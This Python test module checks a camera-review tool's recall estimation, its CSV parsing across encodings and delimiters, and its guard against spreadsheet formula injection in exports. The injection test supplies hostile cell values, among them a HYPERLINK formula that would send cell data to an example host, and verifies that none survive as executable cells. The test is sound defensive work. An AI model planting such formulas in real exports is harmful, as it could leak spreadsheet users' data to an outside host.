"""Cases of figures and of tables that people open in a spreadsheet."""

import csv
import io
from collections.abc import Mapping
from contextlib import redirect_stdout

from bench.cases_outcome import Case, Seen
from sightline.cli.query import flat, print_csv
from sightline.services.verdict_sheet import Sheet, read_sheet, write_sheet
from sightline.services.verdicts import judge_of
from sightline.spreadsheets import decode
from sightline.stats.counts import CellCounts, Tally
from sightline.stats.figures import NotEstimable, estimate
from sightline.stats.sampling import Cell
from sightline.stats.strata import Stratum
from sightline.stats.verdicts import Answer
from sightline.stats.windows import evidence_of
from sightline.testing.fake import BUCKET, FakeSightline, picture

URI = f"s3://{BUCKET}/yard/grey.jpg"
STARTS = ("=", "+", "-", "@")
"""What a cell begins with that a spreadsheet runs."""

SHEETS: Mapping[str, bytes] = {
    "semicolons": f"uri;verdict;label\r\n{URI};absent;Person\r\n".encode(),
    "semicolons in UTF-16": f"URI;Verdict;Label\r\n{URI};Absent;Person\r\n".encode("utf-16"),
    "Windows-1252": f"uri;verdict;label;note\r\n{URI};absent;Person;grün\r\n".encode("cp1252"),
    "tabs": f"uri\tverdict\tlabel\r\n{URI}\tabsent\tPerson\r\n".encode(),
    "Excel's own line": f"sep=;\r\nuri;verdict;label\r\n{URI};absent;Person\r\n".encode(),
}


def cases() -> list[Case]:
    """Return the cases of this group."""
    return [
        Case(
            "a camera without a verdict",
            "verdicts on one camera of two, figures of both",
            "no recall, and the camera is named",
            _unreviewed,
        ),
        Case("sheets of spreadsheets", f"a verdict in {len(SHEETS)} forms of CSV", "each is read", _sheets),
        Case(
            "formulas in exports",
            "cameras, keys and texts that a spreadsheet would run",
            "none is run, and reading back changes nothing",
            _formulas,
        ),
    ]


def _cell(camera: str, a: Tally, b: Tally, c: Tally) -> CellCounts:
    return CellCounts(Cell(camera, "Person", "2044-05-16"), {Stratum.A: a, Stratum.B: b, Stratum.C: c})


def _unreviewed() -> Seen:
    seen = _cell("easy", Tally(100, 38, 2), Tally(50, 1, 24), Tally(500, 0, 80))
    unseen = _cell("hard", Tally(100), Tally(300), Tally(5000))
    recall = estimate(evidence_of([seen, unseen]), "all").recall
    if isinstance(recall, NotEstimable):
        return Seen(recall.reason, "hard" in recall.reason)
    return Seen(f"recall {recall.low:.0%}–{recall.high:.0%}", is_right=False)


def _reviewed() -> FakeSightline:
    world = FakeSightline(features=("labels",))
    world.put(URI, picture(1))
    world.add(URI)
    world.run()
    return world


def _read(world: FakeSightline, data: bytes) -> Sheet:
    return read_sheet(io.StringIO(decode(data, "a sheet")), "a sheet", "Person", "ann", judge_of(world.services))


def _sheets() -> Seen:
    world = _reviewed()
    answers = {name: [each.verdict.answer for each in _read(world, data).verdicts] for name, data in SHEETS.items()}
    wrong = [name for name, found in answers.items() if found != [Answer.ABSENT]]
    return Seen(f"not read: {', '.join(wrong)}" if wrong else f"{len(SHEETS)} read", not wrong)


def _formulas() -> Seen:
    answer = {
        "camera": {"camera_name": '=HYPERLINK("http://example.org/?"&A1)'},
        "image": {"object_key": "=1+1/a.jpg"},
        "text": "+1+1",
        "name": "-2+3",
        "person": "@SUM(A1)",
    }
    query = io.StringIO()
    with redirect_stdout(query):
        print_csv([flat(answer)])
    world, sheet = _reviewed(), io.StringIO()
    said = _read(world, f"uri,verdict,reviewer\n{URI},present,=1+1\n".encode())
    write_sheet(said.verdicts, sheet)
    cells = [cell for text in (query, sheet) for row in csv.reader(io.StringIO(text.getvalue())) for cell in row]
    run = [cell for cell in cells if cell.startswith(STARTS)]
    is_same = _read(world, sheet.getvalue().encode()) == said
    words = f"{len(run)} of {len(cells)} cells would be run; read back {'the same' if is_same else 'otherwise'}"
    return Seen(words, not run and is_same)
